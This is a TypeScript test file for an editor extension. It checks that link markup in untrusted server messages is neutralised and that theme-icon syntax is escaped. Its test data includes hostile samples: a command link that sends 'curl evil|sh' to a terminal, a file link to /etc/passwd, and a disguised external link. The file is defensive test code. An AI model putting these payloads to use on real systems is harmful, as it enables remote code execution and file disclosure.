// inertLinks and escapeThemeIcons: server text in notifications, input boxes and pick items stays text.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { escapeThemeIcons, inertLinks } from '../../../src/core/untrustedText/linkedText';

/**
 * The links the editor makes of a notification's text, by its documented rule: `[label](target)` where the target
 * starts with http(s)://, command: or file: and holds no white space or `)`, with an optional quoted title.
 */
function linksIn(message: string): string[] {
  return [...message.matchAll(/\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["']).+?\3)?\)/gi)].map((match) => match[2]);
}

describe('inertLinks', () => {
  const hostile = [
    'Access denied. [Fix it](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
    '[docs](https://evil.example "Official documentation")',
    '[passwd](file:///etc/passwd) and [two](HTTPS://evil.example/x) [three](Command:json2.removeConnection)',
    'nested [[a](command:x)](command:y)',
  ];

  test('the check finds the links the editor would make of the raw text', () => {
    assert.deepEqual(
      hostile.map((text) => linksIn(text).length),
      [1, 1, 3, 1],
    );
  });

  test('no link is left, and the text reads the same once the invisible joiner is taken out', () => {
    for (const text of hostile) {
      const inert = inertLinks(text);
      assert.deepEqual(linksIn(inert), [], inert);
      assert.equal(inert.replaceAll('\u2060', ''), text);
    }
  });

  test('text without links is unchanged', () => {
    for (const text of ['The database "demo" does not exist.', 'Expected ] (closing bracket)', 'a[1] (first)', ''])
      assert.equal(inertLinks(text), text);
  });
});

describe('escapeThemeIcons', () => {
  test('every $( is escaped, the rest kept', () => {
    assert.equal(escapeThemeIcons('$(warning) prod $(sync~spin)'), '\\$(warning) prod \\$(sync~spin)');
    assert.equal(escapeThemeIcons('cost: $5 (approx.)'), 'cost: $5 (approx.)');
  });
});
